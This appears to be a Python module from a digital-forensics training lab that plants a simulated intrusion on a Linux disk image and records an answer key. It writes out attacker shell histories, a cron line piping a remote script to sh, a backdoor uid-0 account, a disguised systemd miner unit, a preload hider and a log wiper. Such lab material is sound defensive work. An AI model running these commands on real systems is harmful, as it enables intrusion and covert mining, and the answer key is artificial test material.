# Copyright (c) 2026 The dfir.aws authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What the intruder did to the two partitions, and the answer key that says where it must show."""

from __future__ import annotations

import gzip
import random

from lab.evidence import malware, story
from lab.evidence.answer_key import AnswerKey
from lab.evidence.tree import SECOND, Tree, at

ROOT, DATA = 1, 2

ROOT_HISTORY = f"""\
id
w
cat /etc/passwd
cd /var/tmp/.ICE-unix
curl -fsSL http://{story.DROP_SITE}/d/inst.sh -o inst.sh
chmod +x inst.sh; ./inst.sh
echo '{story.INTRUDER_KEY}' >> /root/.ssh/authorized_keys
useradd -o -u 0 -g 0 -d /var/lib/sysbackup -s /bin/bash sysbackup
passwd sysbackup
touch -r /usr/lib/systemd/systemd-journald {story.MINER_PATH}
systemctl status systemd-journal-gc
tail -n 20 /var/log/auth.log
history -c
"""

DEPLOY_HISTORY = f"""\
whoami
sudo -l
uname -a; nproc; free -m
echo '{story.INTRUDER_KEY}' >> ~/.ssh/authorized_keys
wget -q http://{story.DROP_SITE}/d/scan.pl -O /var/tmp/.ICE-unix/scan.pl
perl /var/tmp/.ICE-unix/scan.pl 172.31.0.0/20
rm -f /var/tmp/.ICE-unix/scan.pl
sudo -i
"""

UNIT = f"""\
[Unit]
Description=Journal Garbage Collector
After=network-online.target

[Service]
Type=simple
ExecStart={story.MINER_PATH} -c {story.MINER_CONFIG}
Restart=always
Nice=10

[Install]
WantedBy=multi-user.target
"""

TIMER = """\
[Unit]
Description=Journal Garbage Collector

[Timer]
OnBootSec=3min
OnUnitInactiveSec=15min
Unit=systemd-journal-gc.service

[Install]
WantedBy=timers.target
"""

SCANNER = f"#!/usr/bin/perl\n# tcp sweep\nuse IO::Socket;\nmy $c2 = '{story.DROP_SITE}';\n" + "".join(
    f"push @ports, {port};\n" for port in range(20, 420))

WIPER = f"#!/bin/sh\n# wiper\n: > /var/log/btmp\ncurl http://{story.DROP_SITE}/ok\n"


def strike(root: Tree, data: Tree, key: AnswerKey) -> None:
    """Plant everything, and note each artifact in the answer key."""
    _break_in(key)
    _keys_and_account(root, key)
    _miner(root, key)
    _persistence(root, key)
    _deleted(root, key)
    _histories(root, key)
    _web_shells(data, key)
    _staging(data, key)
    _benign(key)


def _break_in(key: AnswerKey) -> None:
    key.planted("ssh_break_in", ROOT, "/var/log/auth.log", "findings", kinds=["ssh_break_in"],
                note=f"password guessing from {story.ATTACKER}, then a login as deploy", at=story.BREAK_IN)
    for path in ("/var/log/wtmp", "/var/log/btmp"):
        key.planted("login_records", ROOT, path, "timeline", note="logins of the intruder")


def _keys_and_account(root: Tree, key: AnswerKey) -> None:
    line = story.INTRUDER_KEY + "\n"
    for path, when in (("/home/deploy/.ssh/authorized_keys", story.ROOT_SHELL - 31 * SECOND),
                       ("/root/.ssh/authorized_keys", story.PERSISTED - 190 * SECOND)):
        root.append(path, line, m=when)
        key.planted("authorized_key", ROOT, path, "findings", kinds=["authorized_key"], note="the intruder's key added",
                    at=when)
    when = story.PERSISTED - 140 * SECOND
    for name in ("passwd", "shadow"):  # the tools keep the former version beside the file
        root.file(f"/etc/{name}-", root.text(f"/etc/{name}"), m=when, mode=root.nodes[f"/etc/{name}"].mode,
                  gid=root.nodes[f"/etc/{name}"].gid)
    root.append("/etc/passwd", "sysbackup:x:0:0::/var/lib/sysbackup:/bin/bash\n", m=when, replaced=True)
    root.append("/etc/shadow", "sysbackup:$y$j9T$kq3vK0a8RzP4yq0bq7Tzx/$9wQ0mYtqJx3Ck7uN1h3v2s8d5f0g6h1j4k7l2z9x8c3:"
                               "20708:0:99999:7:::\n", m=when + 6 * SECOND, replaced=True)
    key.planted("account", ROOT, "/etc/passwd", "findings", kinds=["account"], note="sysbackup has user id 0", at=when)
    key.planted("account", ROOT, "/etc/shadow", "timeline", note="sysbackup's password", at=when)


def _miner(root: Tree, key: AnswerKey) -> None:
    looks = root.nodes["/usr/lib/systemd/systemd-journald"].times.m  # touch -r: as old as its neighbor
    files = (("miner_binary", story.MINER_PATH, malware.miner(), 0o755),
             ("miner_config", story.MINER_CONFIG, malware.MINER_JSON.encode(), 0o644),
             ("process_hider", story.HIDER, malware.hider(), 0o644))
    for kind, path, content, mode in files:
        root.file(path, content, m=looks, b=story.MINER, mode=mode, stomped=True, a=story.SNAPSHOT - 900 * SECOND,
                  c=story.MINER + 4 * SECOND)
        key.planted(kind, ROOT, path, "timeline", note="born during the incident", at=story.MINER)
    key.planted("miner_binary", ROOT, story.MINER_PATH, "yara", note="strings of a Monero miner")
    key.planted("miner_binary", ROOT, story.MINER_PATH, "clamav", note="strings of a Monero miner")
    key.planted("miner_config", ROOT, story.MINER_CONFIG, "yara", note="a pool's address and a wallet")
    key.planted("timestomp", ROOT, story.MINER_PATH, "findings", kinds=["timestomp", "miner_binary", "yara", "clamav"],
                note="modified long before it was born, and no package brought it", at=story.MINER)


def _persistence(root: Tree, key: AnswerKey) -> None:
    when = story.PERSISTED
    root.file(story.PRELOAD, story.HIDER + "\n", m=when - 60 * SECOND)
    root.file(story.CRON_ENTRY,
              f"*/10 * * * * root curl -fsSL http://{story.DROP_SITE}/d/inst.sh | sh >/dev/null 2>&1\n",
              m=when - 30 * SECOND)
    root.file(story.MINER_UNIT, UNIT, m=when)
    root.file(story.MINER_TIMER, TIMER, m=when)
    wants = "/etc/systemd/system/{}.target.wants/{}"
    for target, unit in (("multi-user", story.MINER_UNIT), ("timers", story.MINER_TIMER)):
        root.link(wants.format(target, unit.rpartition("/")[2]), unit, b=when)
    key.planted("preload", ROOT, story.PRELOAD, "findings", note="a library loaded into every program")
    key.planted("cron", ROOT, story.CRON_ENTRY, "findings", kinds=["cron"], note="fetches and runs a script", at=when)
    key.planted("systemd_unit", ROOT, story.MINER_UNIT, "findings", kinds=["systemd_unit"], note="starts the miner",
                at=when)
    key.planted("systemd_timer", ROOT, story.MINER_TIMER, "timeline", note="starts the miner again", at=when)


def _deleted(root: Tree, key: AnswerKey) -> None:
    folder = story.DROP_FOLDER
    root.folder(folder, mode=0o1777, b=story.DROPPER)
    kit = gzip.compress(random.Random("kit").randbytes(300_000), mtime=0)  # noqa: S311 - filling
    root.file(story.DROPPER_PATH, malware.DROPPER, m=story.DROPPER, mode=0o755)
    root.file(story.ARCHIVE_PATH, kit, m=story.DROPPER + 9 * SECOND)
    root.file(f"{folder}/scan.pl", SCANNER, m=story.ROOT_SHELL - 20 * SECOND, uid=1001, gid=1001)
    root.file(f"{folder}/.pid", "45820\n", m=story.MINER + 9 * SECOND)  # stays
    root.delete(story.DROPPER_PATH, story.MINER + 30 * SECOND)
    root.delete(story.ARCHIVE_PATH, story.MINER + 29 * SECOND, "wiped")
    root.delete(f"{folder}/scan.pl", story.ROOT_SHELL - 5 * SECOND)
    key.planted("deleted_file", ROOT, story.DROPPER_PATH, "deleted", note="the dropper: name and content",
                at=story.DROPPER, content=malware.DROPPER.encode())
    key.planted("deleted_file", ROOT, f"{folder}/scan.pl", "deleted", note="a port scanner: name and content",
                content=SCANNER.encode())
    key.planted("deleted_file", ROOT, story.ARCHIVE_PATH, "deleted", note="the kit: its inode is in the journal",
                content=kit)
    # Its place in the folder was taken by a session file, so only the inode is left.
    root.folder("/var/lib/php/sessions", mode=0o1733, b=story.INSTALLED)
    root.file("/var/lib/php/sessions/sess_k1", WIPER, m=story.LEFT - 50 * SECOND, uid=0)
    root.file("/var/lib/php/sessions/sess_q7", "cart|a:0:{}", m=story.LEFT + 3000 * SECOND, mode=0o600, uid=33, gid=33,
              late=True)
    root.delete("/var/lib/php/sessions/sess_k1", story.LEFT - 40 * SECOND, "nameless")
    key.planted("deleted_file", ROOT, "", "deleted", note="a script whose name is gone", content=WIPER.encode())
    # A second miner process still runs from a file that is deleted.
    root.file(story.RUNNING_PATH, malware.miner()[:900_000], m=story.MINER - 6 * SECOND, mode=0o755)
    root.delete(story.RUNNING_PATH, story.MINER + 31 * SECOND, "open")
    key.planted("deleted_file", ROOT, story.RUNNING_PATH, "deleted", required=False,
                note="deleted while it runs: inode and content are still allocated")


def _histories(root: Tree, key: AnswerKey) -> None:
    root.file("/root/.bash_history", ROOT_HISTORY, m=story.LEFT, mode=0o600)
    root.file("/home/deploy/.bash_history", DEPLOY_HISTORY, m=story.LEFT, mode=0o600, uid=1001, gid=1001)
    for path in ("/root/.bash_history", "/home/deploy/.bash_history"):
        key.planted("shell_history", ROOT, path, "findings", kinds=["shell_history"], note="downloads and an added key",
                    at=story.LEFT)


def _web_shells(data: Tree, key: AnswerKey) -> None:
    data.file(story.WEB_SHELL, malware.WEB_SHELL, m=story.SHELL_UPLOAD, uid=33, gid=33)
    data.file(story.OLD_WEB_SHELL, malware.OLD_WEB_SHELL, m=story.RELEASED, b=story.SHELL_UPLOAD + 900 * SECOND,
              stomped=True, uid=33, gid=33)
    for path in (story.WEB_SHELL, story.OLD_WEB_SHELL):
        key.planted("web_shell", DATA, path, "findings", kinds=["web_shell", "yara", "clamav"],
                    note="runs what a request sends", at=story.SHELL_UPLOAD)
        key.planted("web_shell", DATA, path, "yara", note="runs what a request sends")
    key.planted("web_shell_use", ROOT, "/var/log/nginx/access.log", "timeline", note="requests to the web shell")


def _staging(data: Tree, key: AnswerKey) -> None:
    data.folder(story.STAGING, mode=0o700, b=story.STAGED)
    loot = random.Random("loot").randbytes(420_000)  # noqa: S311 - filling
    data.file(f"{story.STAGING}/customers.sql.gz", gzip.compress(loot, mtime=0), m=story.STAGED)
    data.file(f"{story.STAGING}/hosts.txt", "".join(f"172.31.{n}.{n * 3 % 250}:22 open\n" for n in range(1, 60)),
              m=at("2026-09-13 22:18:02"))
    for name in ("customers.sql.gz", "hosts.txt"):
        key.planted("staging", DATA, f"{story.STAGING}/{name}", "timeline", note="collected to be taken away",
                    at=story.STAGED)


def _benign(key: AnswerKey) -> None:
    for kind, partition, path in (
        ("authorized_key", ROOT, "/home/admin/.ssh/authorized_keys"), ("cron", ROOT, "/etc/cron.d/shop-backup"),
        ("cron", ROOT, "/etc/cron.d/e2scrub_all"), ("cron", ROOT, "/etc/cron.d/php"),
        ("cron", ROOT, "/etc/cron.daily/logrotate"), ("cron", ROOT, "/var/spool/cron/crontabs/deploy"),
        ("systemd_unit", ROOT, "/etc/systemd/system/shop-worker.service"),
        ("systemd_unit", ROOT, "/etc/systemd/system/shop-report.service"),
        ("systemd_unit", ROOT, "/etc/systemd/system/shop-report.timer"),
        ("shell_history", ROOT, "/home/admin/.bash_history"), ("script", ROOT, "/usr/local/sbin/shop-backup"),
        ("sudoers", ROOT, "/etc/sudoers.d/90-cloud-init-users"), ("php", DATA, "/www/shop/lib/Image/thumbnail.php"),
        ("php", DATA, "/www/shop/lib/Mail/parser.php"), ("php", DATA, "/www/shop/lib/Cache/Memory.php"),
        ("php", DATA, "/www/shop/public/admin/media.php"), ("text", DATA, "/www/blog/2026/cryptojacking.html"),
    ):
        key.benign(kind, partition, path)
